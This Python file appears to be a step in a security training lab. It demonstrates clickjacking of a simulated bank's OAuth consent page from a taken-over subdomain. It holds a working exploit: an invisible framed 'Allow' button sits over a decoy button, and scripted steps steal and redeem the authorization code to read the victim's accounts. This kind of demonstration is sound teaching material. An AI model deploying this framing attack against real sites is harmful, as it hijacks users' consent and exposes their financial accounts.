"""A kitten with a button; over the button, unseen, lies another one."""

from urllib.parse import urlsplit

from flask import Flask, Response, render_template_string, request

from labs.chromium import BrowserStage
from labs.stage import PUBLIC, Stage
from labs.steps import step

# The frame lies so that “Allow” is over the button: the attacker has measured Bank ID's page in his own browser.
PAGE = """{% extends "pages/kitten.html" %}
{% block head %}<style>
  .trap { position: relative; width: 13rem; height: 2.5rem; overflow: hidden; }
  .trap button { position: absolute; inset: 0; width: 100%; min-height: 0; }
  iframe { position: absolute; left: -119px; top: -564px; width: 700px; height: 1000px; border: 0; opacity: .001; }
  body:has(#show:checked) iframe { opacity: .9; }
</style>{% endblock %}
{% block trap %}<p class="trap"><button type="button">Adopt the kitten</button>
<iframe src="{{ framed }}" title="Nothing"></iframe></p>
<p><label><input type="checkbox" id="show"> Show what lies over the button</label></p>{% endblock %}"""
PAINTED = "new Promise(go => requestAnimationFrame(() => requestAnimationFrame(go)))"
kittens = Flask(__name__, template_folder="../../templates", static_folder="../../static")
HOSTS = {"shop.auth": kittens}  # a subdomain of Bank ID's that somebody gave up, and somebody else took


@kittens.get("/")
def page() -> Response:
    """Show a kitten, and frame the request that stands in the URL."""
    here = request.environ["labs.world"].here
    # The page must be under Bank ID's own site: from elsewhere the frame would get no cookie, for that is
    # `SameSite=Lax`.
    framed = f"{here.auth}/authorize?{request.query_string.decode()}"
    answer = Response(render_template_string(PAGE, framed=framed))
    sources = f"frame-src {here.auth} {here.attacker}; style-src 'self' 'unsafe-inline'"
    answer.headers["Content-Security-Policy"] = f"default-src 'none'; {sources}"
    return answer


@step("Alice", by_hand="{auth}/")
def alice_signs_in(stage: BrowserStage) -> None:
    """Sign in at Bank ID as alice, to see which apps have access."""
    stage.alice.go(f"{stage.here.auth}/").sign_in()


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Register an app, and make a link to a page that frames Bank ID's consent page for it."""
    redirect_uri = f"{stage.here.attacker}/collect"
    stage.kept["client_id"] = stage.attacker.register("Recipes", redirect_uri, **PUBLIC)["client_id"]
    query = urlsplit(stage.link(stage.kept["client_id"], redirect_uri)).query
    stage.onward = f"{stage.here.origin('shop.auth')}/?{query}"


@step("Alice")
def alice_adopts_the_kitten(stage: BrowserStage) -> None:
    """Open the link, and press the button under the kitten."""
    tab = stage.lead_alice().rest().tab
    # She clicks at a place, as a person does, and not at an element: what lies on top there gets the click.
    button, frame = tab.get_by_role("button", name="Adopt the kitten").bounding_box(), tab.frames[-1]
    framed = frame.url.startswith(stage.here.auth)
    if framed:
        frame.evaluate(PAINTED)  # until then it takes no clicks
    tab.mouse.click(button["x"] + button["width"] / 2, button["y"] + button["height"] / 2)
    if framed:  # the page let itself be framed: the click was for it
        frame.wait_for_url(f"{stage.here.attacker}/**")


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
    token = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/collect")
    stage.attacker.bank("GET", "/accounts", token)
